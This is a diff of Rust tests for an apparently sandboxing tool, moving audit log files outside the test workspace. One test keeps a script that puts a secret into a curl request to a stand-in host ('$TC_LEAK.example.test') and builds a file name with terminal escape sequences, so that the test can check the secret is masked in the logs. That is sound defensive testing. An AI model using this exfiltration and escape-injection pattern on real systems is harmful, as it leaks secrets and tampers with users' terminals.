@@ -528,7 +528,7 @@ fn ask_with_an_approval_command() {
             log.display()
         ),
     );
-    let audit = ws.join("audit.log");
+    let audit = ws.outside("audit.log");
     let o = taskcell(
         ws.path(),
         &[
@@ -632,7 +632,7 @@ fn ask_answered_with_taskcell_approve_and_denied_on_timeout() {
     assert_eq!(d.permissions().mode() & 0o777, 0o700);
 
     // Nobody answers: denied when the (short) timeout ends.
-    let audit = ws.join("audit.log");
+    let audit = ws.outside("audit.log");
     let prof = profile(
         &ws,
         &format!("allow = [\"127.0.0.1:{port}\"]\nresolve = {{ \"late.test\" = \"127.0.0.1\" }}\nask = true\nask_timeout = \"1s\"\n"),
@@ -975,7 +975,7 @@ fn what_the_cell_names_is_masked_and_escaped_on_stderr_and_in_the_audit_log() {
     // leak scan reports its path).
     let ws = Ws::new();
     let prof = profile(&ws, "allow = []\n");
-    let log = ws.join("audit.jsonl").display().to_string();
+    let log = ws.outside("audit.jsonl").display().to_string();
     let value = "q7secretvalue42";
     let script = "curl -s -o /dev/null http://$TC_LEAK.example.test/; \
          f=$(printf 'x-%s-\\033]0;pwned\\007\\033[2J\\r.txt' \"$TC_LEAK\"); \
